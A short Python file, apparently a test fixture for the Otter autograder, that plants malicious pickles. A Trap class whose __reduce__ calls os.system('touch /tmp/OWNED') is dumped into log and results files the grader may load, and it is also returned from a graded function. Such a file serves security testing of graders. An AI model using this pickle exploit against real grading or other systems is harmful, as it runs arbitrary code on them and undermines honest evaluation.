"""A crafted .OTTER_LOG and results pickle, which write a file when they are loaded."""
# base: blank

# %% start
import os
import pickle


class Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/OWNED",)


for name in (".OTTER_LOG", "results.pkl", "results.json", "results/results.pkl", "/tmp/results.pkl"):
    try:
        with open(name, "wb") as file:
            pickle.dump(Trap(), file)
    except OSError:
        pass


# %% q2a
def grad_theta(x, theta):
    return Trap()


direction_theta = np.array([Trap()], dtype=object)
